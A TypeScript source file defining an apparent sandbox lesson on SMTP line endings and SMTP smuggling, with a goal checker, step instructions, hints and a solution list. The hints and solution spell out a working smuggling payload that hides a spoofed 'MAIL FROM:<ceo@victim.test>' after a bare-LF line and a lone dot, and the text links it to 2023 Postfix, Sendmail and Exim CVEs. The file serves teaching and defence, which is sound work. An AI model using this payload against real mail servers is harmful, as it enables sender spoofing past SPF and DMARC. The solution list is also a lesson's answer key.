import type { Delivery, ObserverState } from '../observe/observer.js';
import { formatMailbox } from '../protocol/address.js';
import { parseCommand } from '../protocol/command.js';
import { answered, goal } from './goals.js';
import type { Lesson } from './types.js';

/** The sender a `MAIL FROM:` line names, lower-cased, or null if it is not one. */
function mailFromAddress(line: string): string | null {
  const parsed = parseCommand(line);
  return parsed.ok && parsed.command.verb === 'MAIL' && parsed.command.mailbox ? formatMailbox(parsed.command.mailbox).toLowerCase() : null;
}

/**
 * Whether a letter is a smuggling attempt that stayed one letter: a lone dot beside a
 * bare LF that did not end it (the observer counts those), and after it a `MAIL FROM:`
 * line for another sender that no server answered as a command, as one that ends
 * letters at `<LF>.<CR><LF>` would have. Read from the observer, so it works against
 * any server. A smuggled sender equal to the letter's own envelope sender can't be told
 * apart from the real MAIL FROM, so it doesn't count.
 */
function smuggledInside(s: ObserverState, d: Delivery): boolean {
  if (d.letter.fakeEnds === 0) return false;
  const senders = d.letter.body
    .split('\n')
    .map(mailFromAddress)
    .filter((a): a is string => a !== null && a !== d.mailFrom.toLowerCase());
  const answeredMail = (a: string) =>
    answered(s, 'MAIL', '2xx', (e) => e.command?.verb === 'MAIL' && !!e.command.mailbox && formatMailbox(e.command.mailbox).toLowerCase() === a);
  return senders.length > 0 && !senders.some(answeredMail);
}

export const lineEndings: Lesson = {
  id: 'line-endings',
  kind: 'lesson',
  title: 'Line endings and SMTP smuggling',
  goal: 'See CRLF versus a bare LF, why strict servers refuse a bare LF, and a smuggling attempt that stays one letter.',
  setup: { personality: 'postfix', scenario: 'lenient-line-endings' },
  steps: [
    {
      id: 'crlf',
      title: 'CRLF',
      instruction:
        'SMTP lines end in two bytes: CR LF (`\\r\\n`). Tick **Show line endings and bytes** in the settings bar at the top of the page, and send `EHLO client.thm`.',
      goals: [goal('crlf', 'Send a command ending in CRLF', (s) => s.exchanges.some((e) => e.ending === 'crlf' && e.code < 400))],
      hints: ['The composer ends every line with CRLF unless you choose otherwise.', 'Type: EHLO client.thm'],
      explanation: 'Unix tools end lines with LF alone. Many servers accept that for commands, which is convenient for `nc`, and risky, as you will see.',
    },
    {
      id: 'bare-lf',
      title: 'A bare LF',
      instruction:
        "Switch the composer's **Line ending** (under the command box) to **LF only** and send `NOOP`. This server is lenient: it answers, and the transcript notes the bare LF. A strict one, like Postfix 3.9 with `smtpd_forbid_bare_newline = reject` (the **Strict line endings** scenario here), answers `550 5.5.2 … Error: bare <LF> received` and hangs up: the command is not carried out, and the connection closes.",
      goals: [goal('lf', 'Send a command ending in a bare LF', (s) => s.exchanges.some((e) => e.ending === 'lf'))],
      hints: ['The line-ending choice is just under the command box.', 'Choose LF only, then type: NOOP'],
      explanation: 'Accepted, with a note. Being lenient with commands is harmless; being lenient about where a message ends is not, as the next step shows.',
    },
    {
      id: 'smuggle',
      title: 'A smuggled message',
      instruction:
        'Line ending back to CRLF. An attacker hides a second message in the first: a line ending in a bare LF, then `.`, then new commands. The sending server passes it all on as one letter; a receiving server that takes `<LF>.<CR><LF>` as the end sees two. Send one letter that carries a fake `MAIL FROM` inside, after a bare-LF line.',
      goals: [goal('one', 'Deliver one letter with the smuggled commands still inside it', (s) => s.deliveries.some((d) => smuggledInside(s, d)))],
      hints: [
        'The letter needs a line that ends in a bare LF, then a line with just a dot, then the fake commands as text. Inside a letter the page sends CRLF only, so use "Show me" for those lines.',
        "Type: `MAIL FROM:<a@client.thm>`, `RCPT TO:<b@server.thm>`, `DATA`. Then the letter's lines: `Subject: one message`, an empty line, `Hi`, `x` ending in a bare LF, `.`, `MAIL FROM:<ceo@victim.test>`, `RCPT TO:<b@server.thm>`, `DATA`, `Subject: smuggled`, and a final `.` with CRLF.",
      ],
      explanation:
        'One message, with the "commands" as text inside it: this scenario is Postfix 3.9’s default, which ends a letter only at `<CR><LF>.<CR><LF>`. A strict server (the **Strict line endings** scenario) would have refused the whole letter with `550` after its final dot, and kept the connection open. Debian 12’s Postfix 3.7 does not: it ends the letter at the dot after the bare LF and reads the fake `MAIL FROM` as a command, so a second message arrives. The Postfix-like sandbox under the plain **Catch-all** scenario behaves like that Postfix, and its transcript marks where the letter ended. In 2023 such servers let an attacker send mail in the name of any domain whose SPF record allows the outbound server that passed the letter on, past SPF and DMARC (CVE-2023-51764 Postfix, CVE-2023-51765 Sendmail, CVE-2023-51766 Exim).',
    },
  ],
  solution: [
    'EHLO client.thm',
    'NOOP\n',
    'MAIL FROM:<a@client.thm>',
    'RCPT TO:<b@server.thm>',
    'DATA',
    'Subject: one message',
    '',
    'Hi',
    'x\n',
    '.',
    'MAIL FROM:<ceo@victim.test>',
    'RCPT TO:<b@server.thm>',
    'DATA',
    'Subject: smuggled',
    '.',
  ],
};
